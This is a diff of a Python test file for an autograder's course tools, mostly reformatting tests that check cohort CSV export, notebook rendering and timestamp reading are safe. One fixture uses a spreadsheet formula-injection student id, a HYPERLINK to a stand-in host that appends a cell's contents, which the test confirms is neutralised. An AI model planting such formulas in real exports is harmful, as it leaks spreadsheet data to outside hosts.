@@ -7,6 +7,7 @@ a student id such as ``=HYPERLINK(...)`` became a live formula in
 cohort.csv. Each is now refused or neutralised, with a clear reason, and
 the other students are still handled.
 """
+
 from __future__ import annotations
 
 import csv
@@ -56,11 +57,20 @@ def test_the_similarity_screen_skips_fifos_and_links_and_compares_the_rest(tmp_p
 
 
 def test_a_student_id_or_reason_that_is_a_formula_stays_text_in_cohort_csv():
-    records = [{"student": '=HYPERLINK("http://x.example/?"&A1,"click")', "graded_at": "2026-11-29",
-                "fingerprint": "0" * 64,
-                "report": {"score": 0, "max_score": 10, "tests": [], "error": "@SUM(1+1)", "seconds": 1.0}},
-               {"student": "ada", "graded_at": "2026-11-29", "fingerprint": "0" * 64,
-                "report": {"score": 10, "max_score": 10, "tests": [], "error": None, "seconds": 1.0}}]
+    records = [
+        {
+            "student": '=HYPERLINK("http://x.example/?"&A1,"click")',
+            "graded_at": "2026-11-29",
+            "fingerprint": "0" * 64,
+            "report": {"score": 0, "max_score": 10, "tests": [], "error": "@SUM(1+1)", "seconds": 1.0},
+        },
+        {
+            "student": "ada",
+            "graded_at": "2026-11-29",
+            "fingerprint": "0" * 64,
+            "report": {"score": 10, "max_score": 10, "tests": [], "error": None, "seconds": 1.0},
+        },
+    ]
     rows = list(csv.DictReader(io.StringIO(cohort.cohort_csv(records, A))))
     assert rows[0]["student"].startswith("'=HYPERLINK") and rows[0]["reason"] == "'@SUM(1+1)"
     assert rows[1]["student"] == "ada" and rows[1]["reason"] == ""
@@ -75,6 +85,7 @@ def test_a_students_html_in_markdown_is_inert_in_the_autograded_notebook():
 
     from autograder.course.gradebook import autograded_notebook
     from autograder.course.report import Report
+
     notebook = samples.student_notebook(A)
     lesson = next(cell for cell in notebook.cells if cell.cell_type == "markdown" and "<" not in cell.source)
     notebook.cells.insert(3, nbformat.v4.new_markdown_cell(SCRIPT))
@@ -93,6 +104,7 @@ def test_timestamp_txt_is_read_only_as_a_small_regular_file_in_nbgraders_format(
     """A FIFO blocked grade-all's main process for ever, a link to /dev/zero was read until memory ran out,
     and a megabyte of digits took nbgrader's parser 50 s before it raised, on every run."""
     from autograder.course.gradebook import read_timestamp
+
     cases = {"fifo": None, "zero": None, "digits": None, "garbage": None, "good": "2026-11-20 10:00:00.000000 UTC"}
     for name in cases:
         (tmp_path / name).mkdir()
